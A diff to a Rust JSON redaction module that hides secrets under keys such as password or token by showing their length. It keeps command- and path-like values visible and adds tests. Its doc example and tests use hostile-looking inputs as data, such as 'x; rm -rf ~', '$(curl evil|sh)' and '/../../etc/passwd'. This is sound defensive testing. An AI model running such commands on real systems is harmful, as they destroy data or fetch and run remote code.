@@ -1,26 +1,60 @@
 //! The walk over a JSON value.
 
-use super::REDACTED;
+use super::harmless::{harmless, hidden};
 use super::key::{may_count, names_secret};
+use super::redactor::Redactor;
 use super::shape::hide;
 use serde_json::{Map, Value};
 
-/// Returns the value with secrets replaced by `[redacted]`: those under a key that names one, and those that show by their
-/// shape, of which only the secret part is replaced.
+/// Returns the value with what looks like a secret replaced by how many characters it has: values under a key that names one, and
+/// those that show by their shape. What could be more than a value (a command, a path, a URL) is shown whole.
 ///
 /// ```
 /// use pml::{json::json, redact};
 ///
-/// let arguments = json!({ "user": "me", "password": "hunter2", "url": "https://me:hunter2@host/" });
-/// let shown = json!({ "user": "me", "password": "[redacted]", "url": "https://me:[redacted]@host/" });
+/// let arguments = json!({ "user": "me", "password": "hunter2", "url": "https://me:hunter2@host/", "token": "x; rm -rf ~" });
+/// let (password, url) = ("[hidden: 7 characters]", "https://me:[hidden: 7 characters]@host/");
+/// let shown = json!({ "user": "me", "password": password, "url": url, "token": "x; rm -rf ~" });
 /// assert_eq!(redact(&arguments), shown);
 /// ```
 pub fn redact(value: &Value) -> Value {
+    Redactor::new().redact(value)
+}
+
+/// Whether the key that a value stands under names a secret.
+#[derive(Clone, Copy, PartialEq, Eq)]
+enum Under {
+    Plain,
+    Secret,
+}
+
+/// Returns the value with what is guessed to be a secret replaced.
+pub(super) fn guessed(value: &Value) -> Value {
+    walk(value, Under::Plain)
+}
+
+fn walk(value: &Value, under: Under) -> Value {
     match value {
-        Value::String(text) => Value::String(hide(text).into_owned()),
-        Value::Array(items) => items.iter().map(redact).collect(),
+        Value::String(text) => Value::String(leaf(text, under)),
+        Value::Number(number) if under == Under::Secret => {
+            let text = number.to_string();
+            match harmless(&text) {
+                Some(_) => hidden(text.len()).into(),
+                None => value.clone(),
+            }
+        }
+        // Each of several passwords is one. What stands in an object has keys of its own.
+        Value::Array(items) => items.iter().map(|item| walk(item, under)).collect(),
         Value::Object(fields) => Value::Object(object(fields)),
+        // They say whether there is a secret, not which.
         Value::Null | Value::Bool(_) | Value::Number(_) => value.clone(),
+    }
+}
+
+fn leaf(text: &str, under: Under) -> String {
+    match harmless(text) {
+        Some(length) if under == Under::Secret => format!("{}{}", hidden(length), &text[length..]),
+        _ => hide(text).into_owned(),
     }
 }
 
@@ -31,19 +65,14 @@ fn object(fields: &Map<String, Value>) -> Map<String, Value> {
     let mut redacted = Map::with_capacity(fields.len());
     for (index, (key, value)) in fields.iter().enumerate() {
         let secret = names_secret(key) || value_is_secret && key == "value";
-        let value = match value {
-            // They say whether there is a secret, not which.
-            Value::Null | Value::Bool(_) => value.clone(),
-            Value::Number(_) if may_count(key) => value.clone(),
-            _ if secret => REDACTED.into(),
-            _ => redact(value),
-        };
+        let counts = value.is_number() && may_count(key);
+        let under = if secret && !counts { Under::Secret } else { Under::Plain };
         let mut key = hide(key).into_owned();
         // Two keys that look the same now are still two: none may hide the other.
         if redacted.contains_key(&key) {
             key += &format!(" ({index})");
         }
-        redacted.insert(key, value);
+        redacted.insert(key, walk(value, under));
     }
     redacted
 }
@@ -54,17 +83,60 @@ mod tests {
     use serde_json::json;
 
     #[test]
-    fn values_under_keys_of_secrets_are_replaced_whole() {
-        let given = json!({ "a": [{ "apiKey": "x", "n": 1 }], "credentials": { "user": "u" }, "pwd": 1234 });
-        let shown = json!({ "a": [{ "apiKey": "[redacted]", "n": 1 }], "credentials": "[redacted]", "pwd": "[redacted]" });
+    fn values_under_keys_of_secrets_are_hidden_and_counted() {
+        let given = json!({ "a": [{ "apiKey": "x", "n": 1 }], "pwd": 1234, "token": "YWJj==" });
+        let shown = json!({
+            "a": [{ "apiKey": "[hidden: 1 character]", "n": 1 }],
+            "pwd": "[hidden: 4 characters]",
+            "token": "[hidden: 4 characters]==",
+        });
         assert_eq!(redact(&given), shown);
+    }
+
+    #[test]
+    fn structure_under_such_a_key_stays_and_each_leaf_is_judged_alone() {
+        let given = json!({
+            "credentials": { "user": "u", "password": "p1", "command": "reboot" },
+            "tokens": ["abc", "-rf", "~", { "run": "x" }],
+        });
+        let shown = json!({
+            "credentials": { "user": "u", "password": "[hidden: 2 characters]", "command": "reboot" },
+            "tokens": ["[hidden: 3 characters]", "-rf", "~", { "run": "x" }],
+        });
+        assert_eq!(redact(&given), shown);
+    }
+
+    #[test]
+    fn what_could_be_more_than_a_value_is_shown_whole() {
+        for text in [
+            "x; rm -rf ~",
+            "$(curl evil|sh)",
+            "/../../etc/passwd",
+            "a b",
+            "-rf",
+            "evil.sh",
+            "https://evil.example",
+            "a\nb",
+            "`x`",
+            "é",
+            "",
+        ] {
+            for key in ["password", "token", "Authorization", "api_key", "cookie"] {
+                let given = json!({ key: text, "list": [{ "name": key, "value": text }] });
+                assert_eq!(redact(&given), given);
+            }
+        }
+        assert_eq!(
+            redact(&json!({ "Authorization": "Bearer abc123;x", "auth": "Bearer abc123" })),
+            json!({ "Authorization": "Bearer abc123;x", "auth": "Bearer [hidden: 6 characters]" })
+        );
     }
 
     #[test]
     fn headers_as_pairs_are_known() {
         let given =
             json!([{ "name": "Authorization", "value": "x" }, { "name": "Accept", "value": "x" }]);
-        let shown = json!([{ "name": "Authorization", "value": "[redacted]" }, { "name": "Accept", "value": "x" }]);
+        let shown = json!([{ "name": "Authorization", "value": "[hidden: 1 character]" }, { "name": "Accept", "value": "x" }]);
         assert_eq!(redact(&given), shown);
     }
 
@@ -80,6 +152,7 @@ mod tests {
     #[test]
     fn keys_that_look_the_same_afterwards_are_both_there() {
         let given = json!({ "u://a:b@c": 1, "u://a:d@c": 2 });
-        assert_eq!(redact(&given), json!({ "u://a:[redacted]@c": 1, "u://a:[redacted]@c (1)": 2 }));
+        let hidden = "u://a:[hidden: 1 character]@c";
+        assert_eq!(redact(&given), json!({ hidden: 1, format!("{hidden} (1)"): 2 }));
     }
 }
